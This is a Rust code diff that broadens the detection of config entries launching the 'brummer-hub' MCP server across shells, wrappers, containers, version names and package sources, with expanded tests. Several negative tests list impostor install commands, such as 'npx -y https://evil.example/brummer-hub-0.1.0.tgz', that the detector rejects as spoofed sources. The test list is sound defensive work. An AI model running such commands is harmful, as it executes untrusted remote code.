@@ -19,8 +19,33 @@ const RUNNER_WORDS: [&str; 3] = ["dlx", "exec", "x"];
 /// Their options that take the next word.
 const VALUED: [&str; 6] = ["-p", "--package", "--registry", "--cache", "--userconfig", "--prefix"];
 
-/// Options by which a shell takes its next word for a command line.
-const SHELL_OPTIONS: [&str; 6] = ["-c", "-lc", "-ic", "/c", "/k", "-command"];
+/// Start what follows their options, and nothing of theirs is missed where it is started without them.
+const PREFIXES: [&str; 8] = ["env", "nice", "ionice", "nohup", "setsid", "stdbuf", "time", "exec"];
+
+/// Start the script that follows their options.
+const SCRIPT_RUNNERS: [&str; 4] = ["node", "deno", "bun", "tsx"];
+
+/// Shells, which take a command line for one word.
+const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+/// The same on Windows, where the line may be in several words.
+const WINDOWS_SHELLS: [&str; 3] = ["cmd", "powershell", "pwsh"];
+
+/// Start an image with a program in it.
+const CONTAINERS: [&str; 3] = ["docker", "podman", "nerdctl"];
+
+/// What stands for the other words after a shell's line.
+const PASSED_ON: [&str; 4] = ["$@", "$*", "${@}", "%*"];
+
+/// What the version of a release before another may be called.
+const BEFORE_RELEASE: [&str; 8] = ["alpha", "beta", "rc", "pre", "dev", "nightly", "canary", "next"];
+
+/// What copies of a program are called beside its name.
+const COPIES: [&str; 8] = ["old", "new", "bak", "orig", "copy", "dev", "debug", "latest"];
+
+/// Whose repository is the hub's own, and where npm keeps its package.
+const REPOSITORY: &str = "standardbeagle/brummer-hub";
+const REGISTRY: &str = "https://registry.npmjs.org/brummer-hub/-/";
 
 /// What a program may be called besides its name.
 const ENDINGS: [&str; 9] = [".exe", ".cmd", ".bat", ".ps1", ".sh", ".js", ".cjs", ".mjs", ".ts"];
@@ -37,52 +62,128 @@ pub(crate) fn words(entry: &Value) -> Option<Vec<String>> {
     let entry = if entry["transport"].is_object() { &entry["transport"] } else { entry };
     let command = if entry["cmd"].is_string() { &entry["cmd"] } else { &entry["command"] };
     let mut words = if command.is_array() { list(command)? } else { vec![command.as_str()?.to_owned()] };
-    if !entry["args"].is_null() {
-        words.extend(list(&entry["args"])?);
+    match &entry["args"] {
+        Value::Null => {}
+        Value::String(line) => words.extend(line.split_whitespace().map(str::to_owned)),
+        args => words.extend(list(args)?),
     }
     (!words.is_empty()).then_some(words)
 }
 
-/// Whether this entry starts the hub, in whatever way.
+/// Whether this entry starts the hub, in whatever way that may be written anew without a loss.
 pub(super) fn starts_hub(entry: &Value) -> bool {
     let Some(words) = words(entry) else { return false };
     let words: Vec<&str> = words.iter().map(String::as_str).collect();
-    is_hub(&words) || is_hub(&split(&words))
+    // The whole command line may stand in the first word.
+    let Some((line, rest)) = words.split_first() else { return false };
+    is_hub(&words) || is_hub(&[&taken_apart(line)[..], rest].concat())
 }
 
 fn is_hub(words: &[&str]) -> bool {
     let Some((program, arguments)) = words.split_first() else { return false };
     if is_program(program) {
-        return true;
+        return !args::ask_for_another(arguments);
     }
     if let Some(rest) = after_runner(words) {
         return is_own_package(rest);
     }
-    // Whatever it is called.
+    // Whatever it is called, but for what has a name of its own that begins with the hub's.
     if args::ask_for_hub(arguments) {
-        return true;
+        let name = bare(program);
+        return name
+            .strip_prefix(NAME)
+            .is_none_or(|rest| COPIES.contains(&rest.trim_start_matches(['.', '-', '_'])));
     }
-    // `node`, `env`, `nice`, a container: what they start is named before its arguments.
-    // After an option, a path that ends with the name alone may be that of a directory.
-    let is_value = |at: usize, word: &str| {
-        let before = at.checked_sub(1).map(|before| arguments[before]);
-        before.is_some_and(|before| before.starts_with('-')) && word != NAME && file(word) == NAME
+    let is_started =
+        |word: &str, rest: &[&str]| (is_program(word) || is_script(word)) && args::ask_for_hub(rest);
+    let is_one = |of: &[&str]| is_one(program, of);
+    if is_one(&PREFIXES) {
+        starts(arguments).any(|at| is_hub(&arguments[at..]))
+    } else if is_one(&SHELLS) {
+        let is_option = |word: &&str| {
+            word.strip_prefix('-').is_some_and(|letters| {
+                letters.ends_with('c') && letters.bytes().all(|byte| byte.is_ascii_alphabetic())
+            })
+        };
+        let line = arguments.iter().position(is_option).and_then(|at| arguments.get(at + 1));
+        line.is_some_and(|line| is_line(line))
+    } else if is_one(&WINDOWS_SHELLS) {
+        let is_option = |word: &&str| ["/c", "/k", "-c", "-command"].contains(&&*word.to_ascii_lowercase());
+        let line = arguments.iter().position(is_option).map(|at| arguments[at + 1..].join(" "));
+        line.is_some_and(|line| is_line(&line))
+    } else if is_one(&SCRIPT_RUNNERS) || is_one(&PACKAGE_MANAGERS) {
+        let from = usize::from(arguments.first() == Some(&"run"));
+        let arguments = &arguments[from..];
+        starts(arguments).any(|at| is_started(arguments[at], &arguments[at + 1..]))
+    } else if is_one(&CONTAINERS) && arguments.first() == Some(&"run") {
+        arguments.iter().enumerate().any(|(at, word)| is_started(word, &arguments[at + 1..]))
+    } else {
+        false
+    }
+}
+
+/// Where the program may be that these words start: behind options, their values and variables.
+fn starts<'w>(words: &'w [&str]) -> impl Iterator<Item = usize> + 'w {
+    let is_before = |at: usize| {
+        let is_option = |word: &str| word.starts_with('-');
+        is_option(words[at]) || words[at].contains('=') || at > 0 && is_option(words[at - 1])
     };
-    let is_named = |at: usize, word: &str| (is_program(word) && !is_value(at, word)) || is_script(word);
-    let mut words = arguments.iter().enumerate();
-    words.any(|(at, word)| is_named(at, word) && args::ask_for_hub(&arguments[at + 1..]))
+    let first = (0..words.len()).find(|&at| !is_before(at)).unwrap_or(words.len());
+    // What follows an option need not be its value.
+    (0..words.len().min(first + 1)).filter(|&at| !words[at].starts_with('-'))
+}
+
+/// Whether one of the commands in this line of a shell starts the hub.
+fn is_line(line: &str) -> bool {
+    line.split([';', '&', '|', '\n']).any(|command| is_hub(&taken_apart(command)))
+}
+
+/// The words of a command. What is done with its output says nothing about it.
+fn taken_apart(command: &str) -> Vec<&str> {
+    let words = command.split_whitespace().map(|word| word.trim_matches(['"', '\'']));
+    words.take_while(|word| !word.contains(['<', '>'])).filter(|word| !PASSED_ON.contains(word)).collect()
+}
+
+/// Whether a program is one of these, wherever it is.
+fn is_one(program: &str, of: &[&str]) -> bool {
+    let name = file(program).to_ascii_lowercase();
+    let name = [".exe", ".cmd", ".ps1"].iter().find_map(|end| name.strip_suffix(end)).unwrap_or(&name);
+    of.contains(&name)
+}
+
+/// What a program is called, without the usual endings.
+fn bare(program: &str) -> String {
+    let name = file(program).to_ascii_lowercase();
+    ENDINGS.iter().find_map(|end| name.strip_suffix(end)).unwrap_or(&name).to_owned()
 }
 
 /// Whether this is the hub's program, wherever it is and of whichever version.
 fn is_program(word: &str) -> bool {
-    let name = file(word).to_ascii_lowercase();
-    let name = ENDINGS.iter().find_map(|end| name.strip_suffix(end)).unwrap_or(&name);
+    let name = bare(word);
     let Some(rest) = name.strip_prefix(NAME) else { return false };
     // `@0.1.0`, the tag of an image, `-1.2`, `_v2`.
-    let version = rest.trim_start_matches(['-', '_', '.']).trim_start_matches('v');
     rest.is_empty()
-        || rest.starts_with(['@', ':'])
-        || (rest.starts_with(['-', '_', '.']) && version.starts_with(|c: char| c.is_ascii_digit()))
+        || rest.strip_prefix(['@', ':']).is_some_and(is_tag)
+        || rest.strip_prefix(['-', '_', '.']).is_some_and(is_version)
+}
+
+/// Whether this names a version of a package or an image, and no other package.
+fn is_tag(text: &str) -> bool {
+    !text.contains([':', '/'])
+}
+
+/// Whether this is a version and nothing else: `1.2`, `v2`, `0.1.0-rc.1`.
+fn is_version(text: &str) -> bool {
+    let is_numbers = |text: &str| {
+        text.split('.').all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
+    };
+    let text = text.strip_prefix('v').unwrap_or(text);
+    let Some((numbers, before)) = text.split_once('-') else { return is_numbers(text) };
+    let is_before = |name: &str| {
+        let Some(number) = before.strip_prefix(name) else { return false };
+        number.is_empty() || is_numbers(number.strip_prefix('.').unwrap_or(number))
+    };
+    is_numbers(numbers) && BEFORE_RELEASE.iter().any(|name| is_before(name))
 }
 
 /// Whether this is a script of the npm package.
@@ -101,22 +202,13 @@ fn file(word: &str) -> &str {
 
 /// What follows the word that makes a package manager start a package.
 fn after_runner<'a, 'w>(words: &'a [&'w str]) -> Option<&'a [&'w str]> {
-    let is_one = |word: &str, of: &[&str]| {
-        let name = file(word).to_ascii_lowercase();
-        let name = [".exe", ".cmd", ".ps1"].iter().find_map(|end| name.strip_suffix(end)).unwrap_or(&name);
-        of.contains(&name)
-    };
-    for (at, word) in words.iter().enumerate() {
-        let rest = &words[at + 1..];
-        if is_one(word, &PACKAGE_RUNNERS) {
-            return Some(rest);
-        }
-        if is_one(word, &PACKAGE_MANAGERS) {
-            let command = first(rest)?;
-            return RUNNER_WORDS.contains(&rest[command]).then(|| &rest[command + 1..]);
-        }
+    let (program, rest) = words.split_first()?;
+    if is_one(program, &PACKAGE_RUNNERS) {
+        return Some(rest);
     }
-    None
+    let command = first(rest)?;
+    let is_runner = is_one(program, &PACKAGE_MANAGERS) && RUNNER_WORDS.contains(&rest[command]);
+    is_runner.then(|| &rest[command + 1..])
 }
 
 /// Whether what a package manager is told to start is the hub.
@@ -129,7 +221,12 @@ fn is_own_package(words: &[&str]) -> bool {
             _ => {}
         }
     }
-    let Some(started) = first(words).map(|at| words[at]) else { return false };
+    let Some(at) = first(words) else { return false };
+    let (started, arguments) = (words[at], &words[at + 1..]);
+    let arguments = arguments.strip_prefix(&["--"]).unwrap_or(arguments);
+    if args::ask_for_another(arguments) {
+        return false;
+    }
     if packages.is_empty() {
         return is_package(started);
     }
@@ -137,15 +234,34 @@ fn is_own_package(words: &[&str]) -> bool {
     packages.into_iter().any(is_package) && is_program(started)
 }
 
-/// Whether this names the npm package: by its name, by its repository or by a file. A name with a scope is another's.
+/// Whether this names the npm package: by its name, by its repository or by a file of this machine. A name with a scope is another's.
 fn is_package(word: &str) -> bool {
-    let file = file(word.split('#').next().unwrap_or(word));
-    let file = [".git", ".tgz"].iter().find_map(|end| file.strip_suffix(end)).unwrap_or(file);
+    let word = word.split('#').next().unwrap_or(word);
     if word.starts_with('@') {
-        return word.starts_with("@brummer-hub/");
+        return word.strip_prefix("@brummer-hub/").is_some_and(is_tag);
     }
-    let is_elsewhere = word.contains(['/', '\\']) || word.ends_with(".tgz");
-    if is_elsewhere { is_program(file) } else { file.split('@').next() == Some(NAME) }
+    let lower = word.to_ascii_lowercase();
+    let repository =
+        ["github:", "https://github.com/", "git@github.com:", "ssh://git@github.com/", "git://github.com/"];
+    let lower = lower.strip_prefix("git+").unwrap_or(&lower);
+    let place = repository.iter().find_map(|start| lower.strip_prefix(start)).unwrap_or(lower);
+    if let Some(rest) = place.strip_prefix(REPOSITORY) {
+        return matches!(rest, "" | ".git") || rest.starts_with('/');
+    }
+    if lower.starts_with(REGISTRY) {
+        return true;
+    }
+    let path = lower.strip_prefix("file:").unwrap_or(lower);
+    let is_local = path.len() < lower.len()
+        || path.starts_with(['.', '/', '~', '\\'])
+        || path.get(1..3) == Some(":\\")
+        || path.get(1..3) == Some(":/")
+        || (path.ends_with(".tgz") && !path.contains(['/', ':']));
+    if is_local {
+        return is_program(path.strip_suffix(".tgz").unwrap_or(path));
+    }
+    let name = word.strip_prefix("npm:").unwrap_or(word);
+    name.strip_prefix(NAME).is_some_and(|rest| rest.is_empty() || rest.strip_prefix('@').is_some_and(is_tag))
 }
 
 /// The first word that is no option nor the value of one.
@@ -158,23 +274,6 @@ fn first(words: &[&str]) -> Option<usize> {
         at += if VALUED.contains(word) { 2 } else { 1 };
     }
     None
-}
-
-/// The same words, with command lines that stand in one word taken apart.
-fn split<'w>(words: &[&'w str]) -> Vec<&'w str> {
-    let mut all = Vec::new();
-    for (at, word) in words.iter().enumerate() {
-        let is_line =
-            at == 0 || SHELL_OPTIONS.iter().any(|option| words[at - 1].eq_ignore_ascii_case(option));
-        if is_line {
-            // What is done with its output says nothing about it.
-            let parts = word.split_whitespace().map(|part| part.trim_matches(['"', '\'']));
-            all.extend(parts.take_while(|part| !part.contains(['<', '>', '|'])));
-        } else {
-            all.push(word);
-        }
-    }
-    all
 }
 
 #[cfg(test)]
@@ -222,8 +321,11 @@ mod tests {
             // Copies with other names.
             "/opt/brummer-hub-1.2 --mcp",
             "/opt/brummer-hub_v2.exe --mcp",
+            "/opt/brummer-hub-0.1.0-rc.1.exe --mcp",
+            "/opt/brummer-hub-0.1.0-beta2 --mcp",
             "/opt/brummer-hub-0.1.0-linux-x64/brummer-hub --mcp",
             "/opt/homebrew/Cellar/brummer-hub/0.1.0/bin/brummer-hub",
+            "/opt/brummer-hub.old --mcp",
             "/home/ada/bin/hub --mcp",
             "/home/ada/bin/hub mcp",
             "/home/ada/bin/my-wrapper --mcp --tools all --data-dir /d",
@@ -236,7 +338,12 @@ mod tests {
             "npx -y --package brummer-hub@0.1.0 brummer-hub --mcp",
             "npx --package=brummer-hub -- brummer-hub --mcp",
             "npx -y github:standardbeagle/brummer-hub --mcp",
-            "npx -y https://example.com/brummer-hub-0.1.0.tgz --mcp",
+            "npx -y standardbeagle/brummer-hub --mcp",
+            "npx -y git+https://github.com/standardbeagle/brummer-hub.git#v1 --mcp",
+            "npx -y https://github.com/standardbeagle/brummer-hub/releases/download/v0.1.0/brummer-hub-0.1.0.tgz --mcp",
+            "npx -y https://registry.npmjs.org/brummer-hub/-/brummer-hub-0.1.0.tgz --mcp",
+            "npx -y ./brummer-hub-0.1.0.tgz --mcp",
+            "npx -y /home/ada/src/brummer-hub --mcp",
             "cmd /c npx -y brummer-hub@0.1.0 --mcp",
             "cmd.exe /d /s /c npx.cmd -y brummer-hub --mcp",
             "bunx brummer-hub --mcp",
@@ -271,6 +378,14 @@ mod tests {
             json!({ "command": "/bin/sh", "args": ["-c", "exec /opt/brummer-hub --mcp 2>> /tmp/log"] }),
             json!({ "command": "cmd", "args": ["/c", "npx -y brummer-hub --mcp"] }),
             json!({ "command": "hub", "args": ["--mcp", "--name-budget", 46] }),
+            json!({ "command": "brummer-hub", "args": "--mcp" }),
+            json!({ "command": "npx", "args": "-y brummer-hub --mcp" }),
+            json!({ "command": "sh", "args": ["-c", "exec brummer-hub --mcp \"$@\"", "sh"] }),
+            json!({ "command": "sh", "args": ["-c", "brummer-hub --mcp; true"] }),
+            json!({ "command": "sh", "args": ["-c", "cd /x && nice -n 5 npx -y brummer-hub --mcp"] }),
+            json!({ "command": "bash", "args": ["-euc", "brummer-hub --mcp"] }),
+            json!({ "command": "/bin/zsh", "args": ["-ilc", "brummer-hub --mcp 2>/tmp/log"] }),
+            json!({ "command": "env", "args": ["A=b", "sh", "-c", "exec brummer-hub --mcp"] }),
         ] {
             assert!(starts_hub(&entry), "{entry}");
         }
@@ -287,6 +402,28 @@ mod tests {
             "other --mcp dev",
             "brummer-hubbub",
             "brummer-hub-tools --stdio",
+            "brummer-hub-1password --mcp",
+            "brummer-hub-2fa-server",
+            "brummer-hub.v2-tools",
+            "brummer-hub-1.2.",
+            "brummer-hub.old dev",
+            "brummer-hub-1.2-rc.x",
+            // Another command of the hub's program.
+            "brummer-hub register --stdio -- x",
+            "brummer-hub --data-dir /d run dev",
+            "brummer-hub --no-tui dev",
+            "npx -y brummer-hub register --stdio -- x",
+            // Elsewhere, or with something in between: it would be lost.
+            "ssh host brummer-hub --mcp",
+            "ssh host npx -y brummer-hub --mcp",
+            "env A=b ssh host brummer-hub --mcp",
+            "docker exec -i box brummer-hub --mcp",
+            "docker exec -i box npx -y brummer-hub --mcp",
+            "kubectl exec -i box -- brummer-hub --mcp",
+            "wsl brummer-hub --mcp",
+            "uvx mcp-proxy -- brummer-hub --mcp",
+            "uvx mcp-proxy -- npx -y brummer-hub --mcp",
+            "node proxy.js brummer-hub --mcp",
             "my-brummer-hub",
             // A project of this name.
             "filesystem-mcp /home/ada/src/brummer-hub",
@@ -302,6 +439,17 @@ mod tests {
             "npx -y nx mcp",
             "npx -y brummer-hub-tools --mcp",
             "npx -y @evil/brummer-hub --mcp",
+            "npx -y evil/brummer-hub --mcp",
+            "npx -y github:evil/brummer-hub --mcp",
+            "npx -y standardbeagle/brummer-hub-tools --mcp",
+            "npx -y https://evil.example/standardbeagle/brummer-hub --mcp",
+            "npx -y https://evil.example/brummer-hub-0.1.0.tgz --mcp",
+            "npx -y https://registry.npmjs.org/evil/-/brummer-hub-0.1.0.tgz --mcp",
+            "npx -y brummer-hub@npm:evil --mcp",
+            "npx -y brummer-hub@github:evil/x --mcp",
+            "npx -y @brummer-hub/linux-x64@npm:evil --mcp",
+            "npm exec brummer-hub@npm:evil -- --mcp",
+            "deno run -A npm:brummer-hub@npm:evil --mcp",
             "npx -p other brummer-hub --mcp",
             "npx -p brummer-hub other --mcp",
             "npx --registry brummer-hub other --mcp",
@@ -315,6 +463,8 @@ mod tests {
             json!({ "url": "http://127.0.0.1:7777/brummer-hub", "args": ["--mcp"] }),
             json!({ "command": "agent", "args": ["--prompt", "start brummer-hub --mcp"] }),
             json!({ "command": "sh", "args": ["-c", "other --prompt brummer-hub"] }),
+            json!({ "command": "sh", "args": ["-c", "ssh host brummer-hub --mcp"] }),
+            json!({ "command": "sh", "args": ["-c", "brummer-hub register --stdio -- x"] }),
             json!(7),
             json!({}),
         ] {
